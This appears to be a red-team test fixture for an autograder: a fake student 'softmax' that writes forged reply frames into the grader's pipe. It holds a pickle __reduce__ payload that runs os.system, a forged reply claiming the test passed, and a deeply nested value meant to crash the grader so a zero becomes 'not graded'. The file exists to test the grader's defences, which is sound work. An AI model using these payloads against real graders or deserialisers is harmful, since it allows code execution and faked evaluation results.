"""Red team: softmax writes forged replies straight into the worker's reply pipe (whatever its fd).

* a vector of length 2 → a well-formed frame, with the id of the request it answers (found in the
  worker's stack), whose value is a ``__reduce__``-style payload claiming success;
* a vector of length 3 → a well-formed frame, with the right id, whose value is nested 500 lists
  deep (which once made the judge's own code fail, turning the student's zero into "not graded");
* anything else → a frame whose header is a pickle that, if unpickled, would create a file in the
  judge's /tmp (the red-team test checks that it never appears).
"""

import json
import os
import pickle

import numpy as np
import redteam

SENTINEL = "@@SENTINEL@@"


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch /tmp/{SENTINEL}",))


def softmax(x):
    if len(x) == 2:
        value = {"__reduce__": ["os.system", f"touch /tmp/{SENTINEL}"], "passed": True}
        reply = {"ok": True, "value": value, "id": redteam.request_id(), "seconds": 0.0}
        os.write(redteam.reply_fd(), redteam.frame(json.dumps({"value": reply, "arrays": []}).encode()))
    elif len(x) == 3:
        deep = "[" * 500 + "]" * 500
        header = '{"value": {"ok": true, "id": %d, "value": %s}, "arrays": []}' % (redteam.request_id(), deep)
        os.write(redteam.reply_fd(), redteam.frame(header.encode()))
    else:
        os.write(redteam.reply_fd(), redteam.frame(pickle.dumps(Payload(), protocol=0)))
    return np.zeros(len(x))
